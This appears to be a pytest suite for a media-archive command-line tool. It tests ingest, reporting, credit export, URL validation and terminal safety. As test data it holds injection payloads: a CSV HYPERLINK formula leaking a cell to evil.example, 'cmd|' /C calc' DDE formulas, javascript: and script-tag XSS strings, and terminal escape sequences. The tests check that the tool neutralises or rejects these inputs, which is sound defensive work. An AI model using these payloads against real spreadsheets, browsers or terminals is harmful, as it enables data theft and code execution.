from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from archive.cli import main

from helpers.media import add_iptc, make_exif, make_jpeg, make_video, make_xmp

ITEM_KEYS = {"id", "event", "kind", "path", "relpath", "mime", "size", "width", "height",
             "orientation", "taken", "taken_source", "camera", "exposure", "gps", "duration",
             "video", "audio", "title", "description", "keywords", "sessions", "people",
             "credit", "thumbnails", "transcript", "duplicates"}


def test_list_and_show_print_the_item_shape(cli, event_dir: Path) -> None:
    make_jpeg(event_dir / "a.jpg", exif=make_exif(taken=dt.datetime(2019, 3, 19, 9, 0),
                                                  gps=(43.77, 11.25, None)))
    make_jpeg(event_dir / "b.jpg", exif=make_exif(make=None, model=None))
    summary = cli.json("ingest", "-j", "1", str(event_dir))
    assert summary["events"][0]["added"] == 2
    items = cli.json("list")
    assert [i["relpath"] for i in items] == ["a.jpg", "b.jpg"]
    for item in items:
        assert set(item) >= ITEM_KEYS
        assert item["kind"] == "photo"
        assert len(item["id"]) == 64
        assert item["duration"] is None and item["video"] is None
        assert item["sessions"] == [] and item["transcript"] == []
    a, b = items
    assert a["gps"] == {"lat": 43.77, "lon": 11.25, "alt": None}
    assert b["camera"] is None and b["gps"] is None
    assert set(a["credit"]) >= {"creator", "organisation", "project", "copyright", "license",
                                "line", "sources"}
    assert a["thumbnails"]["small"].startswith(f"thumbs/{a['id'][:2]}/")
    assert cli.json("show", a["id"][:10]) == a
    assert cli.json("show", str(event_dir / "b.jpg")) == b
    assert cli.json("show", "b.jpg") == b
    assert "no item" in cli("show", "ffffffffff", code=1)


def test_text_output_and_report(cli, event_dir: Path) -> None:
    make_jpeg(event_dir / "a.jpg", exif=make_exif())
    (event_dir / "broken.jpg").write_bytes(b"\xff\xd8\xff\x00")
    out = cli("ingest", "-j", "1", str(event_dir))
    assert "1 added" in out and "1 failed" in out
    assert "a.jpg" in cli("list")
    report = cli("report")
    assert "Errors (1):" in report and "broken.jpg" in report
    data = cli.json("report")
    assert [e["stage"] for e in data["errors"]] == ["decode"]
    assert data["without_creator"][0]["path"].endswith("a.jpg")


def test_user_errors_are_one_line_and_exit_1(cli, tmp_path: Path, event_dir: Path) -> None:
    (event_dir / "event.toml").write_text('[event]\nid = "x"\ntitle = "X"\nbogus = 1\n')
    result = cli.runner.invoke(main,
                               ["--archive", str(cli.archive_dir), "ingest", str(event_dir)])
    assert result.exit_code == 1
    assert "event.toml: event.bogus: unknown key" in result.output
    assert "Traceback" not in result.output
    missing = cli.runner.invoke(main,
                                ["--archive", str(tmp_path / "none"), "list"])
    assert missing.exit_code != 0


EVENT_ONE = """
[event]
id = "one"
title = "One"
date = 2019-03-19

[[people]]
id = "keller"
name = "Peter Keller"

[[sessions]]
id = "s1"
title = "Morning"
start = 09:00
end = 12:00
speakers = ["keller"]
"""


@pytest.fixture
def two_events(cli, tmp_path: Path) -> tuple[Path, Path]:
    """Two events, each with an `a.jpg` of its own; the first also has a broken file."""
    one, two = tmp_path / "one", tmp_path / "two"
    make_jpeg(one / "a.jpg", exif=make_exif(taken=dt.datetime(2019, 3, 19, 10, 0)))
    (one / "broken.jpg").write_bytes(b"\xff\xd8\xff\x00")
    (one / "event.toml").write_text(EVENT_ONE, encoding="utf-8")
    make_jpeg(two / "a.jpg", size=(80, 60), exif=make_exif(model="Other"))
    (two / "event.toml").write_text('[event]\nid = "two"\ntitle = "Two"\n', encoding="utf-8")
    cli("ingest", "-j", "1", str(one), str(two))
    return one, two


def test_report_for_one_event(cli, two_events: tuple[Path, Path]) -> None:
    data = cli.json("report", "--event", "two")
    assert [e["id"] for e in data["events"]] == ["two"]
    assert data["errors"] == [] and [c["event"] for c in data["counts"]] == ["two"]
    assert [c["model"] for c in data["unknown_cameras"]] == ["Other"]
    whole = cli.json("report")
    assert [e["id"] for e in whole["events"]] == ["one", "two"]
    text = cli("report", "--event", "one")
    assert "one: 1 photo item(s)" in text and "broken.jpg" in text and "two:" not in text


def test_show_resolves_relative_paths_against_the_current_directory(
        cli, two_events: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    one, two = two_events
    by_path = {i["path"]: i for i in cli.json("list")}
    first, second = by_path[str(one / "a.jpg")], by_path[str(two / "a.jpg")]
    monkeypatch.chdir(one.parent)
    assert cli.json("show", "./one/a.jpg") == first
    assert cli.json("show", "two/a.jpg")["id"] == second["id"]
    monkeypatch.chdir(two)
    # A file in the current directory wins over another event's relpath of the same name.
    assert cli.json("show", "a.jpg")["id"] == second["id"]
    assert cli.json("show", "./a.jpg")["id"] == second["id"]
    assert cli.json("show", "../one/a.jpg")["id"] == first["id"]
    monkeypatch.chdir(one.parent.parent)
    assert "several events" in cli("show", "a.jpg", code=1)
    assert "no item" in cli("show", "./one/b.jpg", code=1)


@pytest.mark.parametrize(("args", "named"), [
    (("list", "--event", "nope"), "event 'nope'"),
    (("report", "--event", "nope"), "event 'nope'"),
    (("export", "credits", "--event", "nope"), "event 'nope'"),
    (("export", "credits", "--session", "nope"), "session 'nope'"),
    (("export", "credits", "--person", "nope"), "person 'nope'"),
    (("export", "credits", "--event", "two", "--session", "s1"), "session 's1'"),
    (("export", "credits", "--event", "two", "--person", "keller"), "person 'keller'"),
])
@pytest.mark.slow
def test_unknown_ids_are_errors_naming_the_id(cli, two_events: tuple[Path, Path],
                                              args: tuple[str, ...], named: str) -> None:
    out = cli(*args, code=1)
    assert out.startswith("error: ") and named in out and len(out.splitlines()) == 1
    assert "Traceback" not in out


def test_known_ids_still_select(cli, two_events: tuple[Path, Path]) -> None:
    assert [i["relpath"] for i in cli.json("list", "--event", "two")] == ["a.jpg"]
    out = cli("export", "credits", "--event", "one", "--session", "s1", "--person", "keller")
    assert len(out.splitlines()) == 2


def test_camera_shown_without_repeating_the_make(cli, two_events: tuple[Path, Path]) -> None:
    one, _ = two_events
    report = cli("report")
    assert "one: Canon EOS 80D (1 items)" in report and "Canon Canon" not in report
    shown = cli("show", str(one / "a.jpg"))
    assert "Canon EOS 80D" in shown and "Canon Canon" not in shown
    assert cli.json("show", str(one / "a.jpg"))["camera"]["make"] == "Canon"  # data unchanged


def test_first_ingest_says_nothing_that_reads_like_an_error(cli, event_dir: Path) -> None:
    make_jpeg(event_dir / "a.jpg", exif=make_exif())
    out = cli("ingest", "-j", "1", str(event_dir))
    assert "no index" not in out and "rebuilding" not in out
    assert "building the search index" in out


FORMULA_EVENT = """
[event]
id = "formulas"
title = "Formulas"

# Forced: the files name their own creators, so [credit] alone would not reach them.
[[credit.rules]]
match = "**"
organisation = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
force = true

[[media]]
path = "iptc.jpg"
title = "-2+3+cmd|' /C calc'!A0"
"""


@pytest.mark.slow
def test_csv_export_neutralises_formulas_from_every_source(cli, event_dir: Path) -> None:
    (event_dir / "event.toml").write_text(FORMULA_EVENT, encoding="utf-8")
    make_jpeg(event_dir / "exif.jpg", exif=make_exif(artist="@SUM(1+1)*cmd|' /C calc'!A0"),
              xmp=make_xmp(title="+1+1"))
    add_iptc(make_jpeg(event_dir / "iptc.jpg", size=(70, 50)),
             {(2, 80): "=1+1", (2, 116): "-1+1"})
    make_video(event_dir / "clip.mp4", metadata={"title": "=2*3", "artist": "@user"})
    cli("ingest", "-j", "1", str(event_dir))
    text = cli("export", "credits", "--format", "csv")
    rows = {r["file"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    organisation = '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert rows["exif.jpg"]["creator"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["exif.jpg"]["title"] == "'+1+1"
    assert (rows["iptc.jpg"]["creator"], rows["iptc.jpg"]["copyright"]) == ("'=1+1", "'-1+1")
    assert rows["iptc.jpg"]["title"] == "'-2+3+cmd|' /C calc'!A0"
    assert (rows["clip.mp4"]["title"], rows["clip.mp4"]["creator"]) == ("'=2*3", "'@user")
    assert {r["organisation"] for r in rows.values()} == {organisation}
    assert all(line.startswith('"') for line in text.splitlines()[1:])


@pytest.mark.parametrize(("key", "value"), [
    ("acquire_license_page", "javascript:alert(document.cookie)"),
    ("acquire_license_page", "JavaScript://example.org/%0Aalert(1)"),
    ("acquire_license_page", "data:text/html,<script>alert(1)</script>"),
    ("acquire_license_page", "https://example.org/buy?x=\"><script>"),
    ("license", 'https://example.org/licence"onmouseover="alert(1)'),
    ("license", "https://example.org/<b>licence</b>"),
    ("license", "ftp://example.org/licence"),
])
def test_event_file_urls_must_be_http(cli, event_dir: Path, key: str, value: str) -> None:
    toml = f'[event]\nid = "x"\ntitle = "X"\n\n[credit]\n{key} = {json.dumps(value)}\n'
    (event_dir / "event.toml").write_text(toml, encoding="utf-8")
    make_jpeg(event_dir / "a.jpg")
    out = cli("ingest", str(event_dir), code=1)
    assert f"event.toml: credit.{key}: " in out and len(out.splitlines()) == 1
    assert not cli.archive_dir.exists()  # nothing written, not even a new archive


def test_event_file_http_urls_are_accepted(cli, event_dir: Path) -> None:
    (event_dir / "event.toml").write_text(
        '[event]\nid = "x"\ntitle = "X"\n\n[credit]\ncreator = "Anna"\n'
        'license = "https://example.org/licence?v=2&lang=it#terms"\n'
        'acquire_license_page = "http://example.org/buy/Péter"\n', encoding="utf-8")
    make_jpeg(event_dir / "a.jpg")
    cli("ingest", str(event_dir))
    credit = cli.json("list")[0]["credit"]
    assert credit["acquire_license_page"] == "http://example.org/buy/Péter"


def test_jsonld_export_is_safe_in_a_script_element(cli, event_dir: Path) -> None:
    title = "Closing </script><script>alert(1)</script> & more"
    make_jpeg(event_dir / "a.jpg", xmp=make_xmp(title=title))
    cli("ingest", "-j", "1", str(event_dir))
    text = cli("export", "credits", "--format", "jsonld", "--base-url", "https://a.example/")
    assert "<" not in text and ">" not in text
    graph = json.loads(text)["@graph"]
    assert graph[0]["name"] == title
    assert graph[0]["contentUrl"] == f"https://a.example/media/{graph[0]['identifier']}/original"
    out = cli("export", "credits", "--format", "jsonld", "--base-url", "javascript:alert(1)",
              code=1)
    assert out.startswith("error: --base-url: ") and len(out.splitlines()) == 1


def test_every_serve_option_is_documented() -> None:
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    options = [opt for param in main.commands["serve"].params for opt in param.opts
               if opt.startswith("--")]
    assert "--connection-limit" in options and "--channel-timeout" in options
    assert [opt for opt in options if opt not in readme] == []


ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\r\x08\x7f"  # as EXIF (ASCII) can hold them
C1 = "\x9b2J\x85"  # 8-bit CSI and NEL, as XMP (XML) can hold them


def on_terminal(archive_dir: Path, *args: str) -> str:
    """Run `event-archive` with its output on a real pseudo-terminal; what it printed."""
    leader, follower = os.openpty()
    command = [sys.executable, "-m", "archive", "--archive", str(archive_dir), *args]
    with subprocess.Popen(command, stdout=follower, stderr=follower) as process:
        os.close(follower)
        chunks = []
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # EIO: the command exited and closed the terminal
                break
            if not chunk:
                break
            chunks.append(chunk)
        process.wait(60)
    os.close(leader)
    return b"".join(chunks).decode("utf-8", "replace")


@pytest.mark.slow
def test_metadata_cannot_send_escape_sequences_to_a_terminal(cli, event_dir: Path) -> None:
    make_jpeg(event_dir / "a.jpg", exif=make_exif(artist=f"Anna{ESCAPES}Rossi"),
              xmp=make_xmp(title=f"Talk{C1}title", subjects=["keynote"]))
    (event_dir / f"broken{ESCAPES}{C1}.jpg").write_bytes(b"\xff\xd8\xff\x00")
    cli("ingest", "-j", "1", str(event_dir))
    item = cli.json("list")[0]
    # The archive keeps what the file says.
    assert (ESCAPES in item["credit"]["creator"]) and (C1 in item["title"])
    for args in (("list",), ("report",), ("show", item["id"]), ("search", "keynote"),
                 ("export", "credits"), ("show", f"nothing{ESCAPES}")):
        out = on_terminal(cli.archive_dir, *args)
        assert not set(out) & set("\x1b\x07\x9b\x85\x08\x7f"), (args, out)
        assert "\r" not in out.replace("\r\n", ""), (args, out)  # the terminal's own CR LF
    assert "Anna]0;owned[2J[31mRossi" in on_terminal(cli.archive_dir, "list")


@pytest.mark.slow
def test_pipes_get_the_text_unchanged(cli, event_dir: Path) -> None:
    make_jpeg(event_dir / "a.jpg", exif=make_exif(artist=f"Anna{ESCAPES}Rossi"))
    cli("ingest", "-j", "1", str(event_dir))
    done = subprocess.run([sys.executable, "-m", "archive", "--archive", str(cli.archive_dir),
                           "list"], capture_output=True, timeout=60, check=True)
    assert f"Anna{ESCAPES}Rossi".encode() in done.stdout


@pytest.mark.parametrize("target", ["missing/credits.csv", "/dev/full", "/proc/version"])
def test_an_export_that_cannot_be_written_is_one_line(cli, event_dir: Path, tmp_path: Path,
                                                      target: str) -> None:
    make_jpeg(event_dir / "a.jpg", exif=make_exif(artist="Anna Rossi"))
    cli("ingest", "-j", "1", str(event_dir))
    path = tmp_path / target
    out = cli("export", "credits", "-o", str(path), code=1)
    assert out.startswith(f"error: {path}: cannot write (") and out.count("\n") == 1, out
    assert not (tmp_path / "missing").exists()


def test_an_export_to_dash_goes_to_standard_output(cli, event_dir: Path, tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    make_jpeg(event_dir / "a.jpg", exif=make_exif(artist="Anna Rossi"))
    cli("ingest", "-j", "1", str(event_dir))
    monkeypatch.chdir(tmp_path)
    assert cli("export", "credits", "-o", "-") == cli("export", "credits")
    assert "Anna Rossi" in cli("export", "credits", "-o", "-")
    assert not (tmp_path / "-").exists()


@pytest.mark.slow
def test_output_that_cannot_be_written_is_one_line(cli, event_dir: Path) -> None:
    make_jpeg(event_dir / "a.jpg")
    cli("ingest", "-j", "1", str(event_dir))
    for args in (("list",), ("list", "--json"), ("export", "credits")):
        with open("/dev/full", "w") as full:
            done = subprocess.run([sys.executable, "-m", "archive", "--archive",
                                   str(cli.archive_dir), *args], stdout=full,
                                  stderr=subprocess.PIPE, text=True, timeout=60)
        assert done.returncode == 1
        assert done.stderr == "error: cannot write the output (No space left on device)\n"


def test_a_query_may_start_with_a_dash(cli, event_dir: Path) -> None:
    make_jpeg(event_dir / "a.jpg")
    make_jpeg(event_dir / "b.jpg", size=(70, 50))
    cli("ingest", "-j", "1", str(event_dir))
    assert "2 result(s) for '-kind:video'" in cli("search", "-kind:video")
    assert cli.json("search", "-kind:video")["total"] == 2
    assert cli.json("search", "--limit", "1", "-kind:video", "--sort=date")["pages"] == 2
    assert cli.json("search", "-kind:photo")["total"] == 0
    exported = json.loads(cli("export", "credits", "-kind:video", "--format", "json"))
    assert sorted(e["file"] for e in exported) == ["a.jpg", "b.jpg"]
    assert "No such option '--limt'" in cli("search", "--limt", "3", "a", code=2)


def test_a_wrong_event_file_leaves_no_new_archive(cli, event_dir: Path) -> None:
    make_jpeg(event_dir / "a.jpg")
    (event_dir / "event.toml").write_text('[event]\ntitle = "No id"\n', encoding="utf-8")
    for json_flag in ((), ("--json",)):
        out = cli("ingest", str(event_dir), *json_flag, code=1)
        assert "event.id: missing" in out
        assert not cli.archive_dir.exists()  # no catalog, thumbs/ or lock file
